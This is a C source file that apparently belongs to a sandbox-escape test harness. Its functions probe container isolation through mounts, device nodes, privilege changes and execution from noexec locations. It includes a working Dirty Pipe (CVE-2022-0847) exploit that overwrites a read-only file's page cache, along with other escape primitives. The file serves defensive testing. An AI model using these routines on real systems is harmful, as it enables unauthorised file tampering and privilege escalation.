/* Filesystem, runtime, dataset and privilege attempts (docs/ATTACKS.md rows
 * 1-4, 6-22, 61, 63, 68, 72, 78, 79). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>
#include <linux/capability.h>
#include "attack.h"

/* row 1: another process's exe visible in our pid namespace */
static int a_procexe(char **argv)
{
	char self[PATH_MAX] = "";
	if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
		return say_rc(-1);
	DIR *d = opendir("/proc");
	if (!d)
		return say_rc(-1);
	struct dirent *e;
	pid_t me = getpid();
	while ((e = readdir(d))) {
		char *end;
		long pid = strtol(e->d_name, &end, 10);
		if (*end || pid <= 0 || pid == me)
			continue;
		char p[64], t[PATH_MAX];
		snprintf(p, sizeof(p), "/proc/%ld/exe", pid);
		ssize_t n = readlink(p, t, sizeof(t) - 1);
		if (n < 0)
			continue;
		t[n] = 0;
		if (strcmp(t, self) != 0) {
			closedir(d);
			return say("visible:%ld:%s", pid, t);
		}
	}
	closedir(d);
	return say("none");
}

static int a_open_w(char **argv) { return say_rc(open(argv[0], O_WRONLY | O_CLOEXEC)); }
static int a_open_r(char **argv) { return say_rc(open(argv[0], O_RDONLY | O_CLOEXEC)); }
static int a_stat(char **argv) { struct stat st; return say_rc(stat(argv[0], &st)); }
static int a_creat(char **argv)
{
	int fd = open(argv[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd >= 0)
		unlink(argv[0]);
	return say_rc(fd);
}

static int a_opendir(char **argv)
{
	DIR *d = opendir(argv[0]);
	if (!d)
		return say_rc(-1);
	closedir(d);
	return say("ok");
}

/* rows 2, 3: inherited fds and cwd */
static int a_fds(char **argv)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d)
		return say_rc(-1);
	char list[512] = "";
	size_t len = 0;
	int seen[64] = {0};
	struct dirent *e;
	while ((e = readdir(d))) {
		char *end;
		long fd = strtol(e->d_name, &end, 10);
		if (*end || e->d_name[0] == '.' || fd == dirfd(d) || fd < 0 || fd >= 64)
			continue;
		seen[fd] = 1;
	}
	closedir(d);
	for (int i = 0; i < 64; i++)
		if (seen[i])
			len += snprintf(list + len, sizeof(list) - len, "%s%d", len ? "," : "", i);
	char cwd[PATH_MAX];
	if (!getcwd(cwd, sizeof(cwd)))
		snprintf(cwd, sizeof(cwd), "?");
	return say("fds=%s cwd=%s", list, cwd);
}

static int a_fchdir(char **argv)
{
	if (fchdir((int)arg_long(argv[0])) < 0)
		return say_rc(-1);
	for (int i = 0; i < 32; i++)
		if (chdir("..") < 0)
			break;
	return say("ok");
}

/* rows 6, 7 */
static int a_chroot(char **argv) { return say_rc(chroot(argv[0])); }
static int a_pivot_root(char **argv) { return say_rc(syscall(SYS_pivot_root, ".", ".")); }
static int a_umount(char **argv) { return say_rc(umount2(argv[0], MNT_DETACH)); }

/* row 8: is /proc/1/root our own root? */
static int a_proc1root(char **argv)
{
	struct stat a, b;
	if (stat("/proc/1/root/", &a) < 0)
		return say_rc(-1);
	if (stat("/", &b) < 0)
		return say_rc(-1);
	return say(a.st_dev == b.st_dev && a.st_ino == b.st_ino ? "same" : "different");
}

static int a_pids(char **argv)
{
	DIR *d = opendir("/proc");
	if (!d)
		return say_rc(-1);
	int n = 0;
	struct dirent *e;
	while ((e = readdir(d)))
		if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
			n++;
	closedir(d);
	return say("pids=%d", n);
}

/* row 12 */
static int a_mount_cgroup(char **argv)
{
	return say_rc(mount("cgroup", argv[0], "cgroup", 0, argv[1]));
}

/* rows 15, 26 */
static int a_mknod_null(char **argv) { return say_rc(mknod(argv[0], S_IFCHR | 0666, makedev(1, 3))); }
/* a whiteout (0:0 char device) is the one device userns root may create */
static int a_mknod_whiteout(char **argv) { return say_rc(mknod(argv[0], S_IFCHR | 0600, makedev(0, 0))); }
static int a_mkfifo(char **argv) { return say_rc(mkfifo(argv[0], 0644)); }

/* rows 16, 17, 21 */
static int a_append(char **argv)
{
	int fd = open(argv[0], O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return say_rc(-1);
	long rc = write(fd, "x", 1);
	close(fd);
	return say_rc(rc);
}
static int a_unlink(char **argv) { return say_rc(unlink(argv[0])); }
static int a_rename(char **argv) { return say_rc(rename(argv[0], argv[1])); }
static int a_chmod(char **argv) { return say_rc(chmod(argv[0], 0777)); }
static int a_touch(char **argv) { return say_rc(utimensat(AT_FDCWD, argv[0], NULL, 0)); }
static int a_link(char **argv) { return say_rc(link(argv[0], argv[1])); }

/* row 16: reopen a read-only descriptor read-write through /proc */
static int a_reopen_rw(char **argv)
{
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return say_rc(-1);
	char p[64];
	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	return say_rc(open(p, O_RDWR | O_CLOEXEC));
}

/* row 18: clear MOUNT_ATTR_RDONLY with mount_setattr(2) */
static int a_mount_setattr_rw(char **argv)
{
	struct {
		unsigned long long set, clr, propagation, userns_fd;
	} attr = {0, 0x1 /* MOUNT_ATTR_RDONLY */, 0, 0};
	return say_rc(syscall(442 /* mount_setattr */, AT_FDCWD, argv[0], 0, &attr, sizeof(attr)));
}

/* row 18 */
static int a_remount_rw(char **argv)
{
	return say_rc(mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL));
}

/* row 20: Dirty Pipe (CVE-2022-0847) against a read-only file: prime a
 * pipe so every buffer has CAN_MERGE, splice one byte of the file in, then
 * write; a vulnerable kernel writes into the file's page cache. */
static int a_dirtypipe(char **argv)
{
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return say_rc(-1);
	char before[64] = {0}, after[64] = {0};
	if (pread(fd, before, sizeof(before), 0) < 2)
		return say("short-file");
	int p[2];
	if (pipe(p) < 0)
		return say_rc(-1);
	int sz = fcntl(p[1], F_GETPIPE_SZ);
	static char buf[4096];
	for (int left = sz; left > 0; left -= (int)sizeof(buf))
		if (write(p[1], buf, (size_t)left < sizeof(buf) ? (size_t)left : sizeof(buf)) < 0)
			return say_rc(-1);
	for (int left = sz; left > 0; left -= (int)sizeof(buf))
		if (read(p[0], buf, (size_t)left < sizeof(buf) ? (size_t)left : sizeof(buf)) < 0)
			return say_rc(-1);
	loff_t off = 0;
	if (splice(fd, &off, p[1], NULL, 1, 0) != 1)
		return say_rc(-1);
	if (write(p[1], "PWNED", 5) < 0)
		return say_rc(-1);
	if (pread(fd, after, sizeof(after), 0) < 0)
		return say_rc(-1);
	return say(memcmp(before, after, sizeof(before)) ? "changed" : "unchanged");
}

/* row 61 */
static int a_setuid0(char **argv) { return say_rc(setuid(0)); }

/* rows 61-63: a line of /proc/self/status, e.g. NoNewPrivs */
static int a_status(char **argv)
{
	FILE *f = fopen("/proc/self/status", "re");
	if (!f)
		return say_rc(-1);
	char line[256];
	size_t n = strlen(argv[0]);
	while (fgets(line, sizeof(line), f)) {
		if (strncmp(line, argv[0], n) == 0 && line[n] == ':') {
			char *v = line + n + 1;
			v += strspn(v, " \t");
			v[strcspn(v, "\n")] = 0;
			fclose(f);
			return say("%s=%s", argv[0], v);
		}
	}
	fclose(f);
	return say("%s=absent", argv[0]);
}

static int a_capbset(char **argv)
{
	return say("bset_sys_admin=%d", prctl(PR_CAPBSET_READ, CAP_SYS_ADMIN, 0, 0, 0));
}

/* row 78: the names of the environment variables, sorted */
static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}
extern char **environ;
static int a_env(char **argv)
{
	char *names[256] = { 0 };
	size_t n = 0;
	for (char **e = environ; *e && n < 256; e++)
		names[n++] = strndup(*e, strcspn(*e, "="));
	qsort(names, n, sizeof(names[0]), cmp_str);
	char out[4096] = "";
	size_t len = 0;
	for (size_t i = 0; i < n && len < sizeof(out); i++)
		len += snprintf(out + len, sizeof(out) - len, "%s%s", i ? "," : "", names[i]);
	return say("env=%s", out);
}

static const struct {
	const char *n;
	int r;
} rlimits[] = {
	{"core", RLIMIT_CORE}, {"nofile", RLIMIT_NOFILE}, {"memlock", RLIMIT_MEMLOCK},
	{"rtprio", RLIMIT_RTPRIO}, {"nice", RLIMIT_NICE}, {"fsize", RLIMIT_FSIZE},
	{"cpu", RLIMIT_CPU}, {"nproc", RLIMIT_NPROC},
};

static int rlimit_id(const char *name)
{
	for (size_t i = 0; i < sizeof(rlimits) / sizeof(rlimits[0]); i++)
		if (strcmp(rlimits[i].n, name) == 0)
			return rlimits[i].r;
	return -1;
}

static int a_rlimit(char **argv)
{
	struct rlimit r;
	int id = rlimit_id(argv[0]);
	if (id < 0)
		return say("unknown-rlimit");
	if (getrlimit(id, &r) < 0)
		return say_rc(-1);
	return say("soft=%lld hard=%lld", r.rlim_cur == RLIM_INFINITY ? -1LL : (long long)r.rlim_cur,
		   r.rlim_max == RLIM_INFINITY ? -1LL : (long long)r.rlim_max);
}

/* row 41: lift a limit to unlimited (needs an unlimited hard limit) */
static int a_raise_rlimit(char **argv)
{
	struct rlimit r = {RLIM_INFINITY, RLIM_INFINITY};
	int id = rlimit_id(argv[0]);
	if (id < 0)
		return say("unknown-rlimit");
	return say_rc(setrlimit(id, &r));
}

/* row 79: copy our own ELF into a memfd and run it */
static int a_memfd_exec(char **argv)
{
	int m = memfd_create("x", MFD_CLOEXEC);
	if (m < 0)
		return say_rc(-1);
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (self < 0)
		return say_rc(-1);
	char buf[65536];
	ssize_t n;
	while ((n = read(self, buf, sizeof(buf))) > 0)
		if (write(m, buf, (size_t)n) != n)
			return say_rc(-1);
	char *args[] = {"attack", "executed", NULL};
	char *envp[] = {NULL};
	fexecve(m, args, envp);
	return say_rc(-1);
}
static int a_executed(char **argv) { return say("ok:executed"); }

/* escape.t's safety check before any destructive attempt: who we are and
 * which namespaces we are in (inode numbers of /proc/self/ns/ *) */
static unsigned long ns_ino(const char *name)
{
	char p[64];
	struct stat st;
	snprintf(p, sizeof(p), "/proc/self/ns/%s", name);
	return stat(p, &st) < 0 ? 0 : (unsigned long)st.st_ino;
}
static int a_preflight(char **argv)
{
	struct __user_cap_header_struct h = {.version = _LINUX_CAPABILITY_VERSION_3};
	struct __user_cap_data_struct d[2];
	memset(d, 0, sizeof(d));
	if (syscall(SYS_capget, &h, d) < 0)
		return say_rc(-1);
	return say("uid=%u caps=%x%x%x%x mnt=%lu pid=%lu net=%lu uts=%lu", (unsigned)getuid(),
		   d[0].effective, d[1].effective, d[0].permitted, d[1].permitted, ns_ino("mnt"),
		   ns_ino("pid"), ns_ino("net"), ns_ino("uts"));
}

/* row 79: drop a copy of our ELF at PATH (mode MODE) */
static int drop_copy(const char *path, mode_t mode)
{
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	if (self < 0 || fd < 0)
		return -1;
	char buf[65536];
	ssize_t n;
	while ((n = read(self, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			return -1;
	close(self);
	close(fd);
	return chmod(path, mode);
}

/* row 79: exec a dropped binary (noexec /tmp and /output) */
static int a_exec_dropped(char **argv)
{
	if (drop_copy(argv[0], 0755) < 0)
		return say_rc(-1);
	char *args[] = {argv[0], "executed", NULL};
	execv(argv[0], args);
	return say_rc(-1);
}

/* row 79: the same through the dynamic loader, which mmaps it PROT_EXEC */
static int a_ldso_exec(char **argv)
{
	if (drop_copy(argv[0], 0644) < 0)
		return say_rc(-1);
	char *args[] = {"ld.so", argv[0], "executed", NULL};
	execv("/lib64/ld-linux-x86-64.so.2", args);
	return say_rc(-1);
}

/* row 79: map a dropped file executable */
static int a_mmap_exec(char **argv)
{
	if (drop_copy(argv[0], 0644) < 0)
		return say_rc(-1);
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return say_rc(-1);
	void *p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	return say_rc(p == MAP_FAILED ? -1 : 0);
}

const struct attack attacks_fs[] = {
	{"procexe", 0, a_procexe},
	{"open_w", 1, a_open_w},
	{"open_r", 1, a_open_r},
	{"stat", 1, a_stat},
	{"creat", 1, a_creat},
	{"opendir", 1, a_opendir},
	{"fds", 0, a_fds},
	{"fchdir", 1, a_fchdir},
	{"chroot", 1, a_chroot},
	{"pivot_root", 0, a_pivot_root},
	{"umount", 1, a_umount},
	{"proc1root", 0, a_proc1root},
	{"pids", 0, a_pids},
	{"mount_cgroup", 2, a_mount_cgroup},
	{"mknod_null", 1, a_mknod_null},
	{"mknod_whiteout", 1, a_mknod_whiteout},
	{"mkfifo", 1, a_mkfifo},
	{"append", 1, a_append},
	{"unlink", 1, a_unlink},
	{"rename", 2, a_rename},
	{"chmod", 1, a_chmod},
	{"touch", 1, a_touch},
	{"link", 2, a_link},
	{"remount_rw", 1, a_remount_rw},
	{"reopen_rw", 1, a_reopen_rw},
	{"mount_setattr_rw", 1, a_mount_setattr_rw},
	{"dirtypipe", 1, a_dirtypipe},
	{"setuid0", 0, a_setuid0},
	{"status", 1, a_status},
	{"capbset", 0, a_capbset},
	{"env", 0, a_env},
	{"rlimit", 1, a_rlimit},
	{"raise_rlimit", 1, a_raise_rlimit},
	{"memfd_exec", 0, a_memfd_exec},
	{"executed", 0, a_executed},
	{"preflight", 0, a_preflight},
	{"exec_dropped", 1, a_exec_dropped},
	{"ldso_exec", 1, a_ldso_exec},
	{"mmap_exec", 1, a_mmap_exec},
	{NULL, 0, NULL},
};
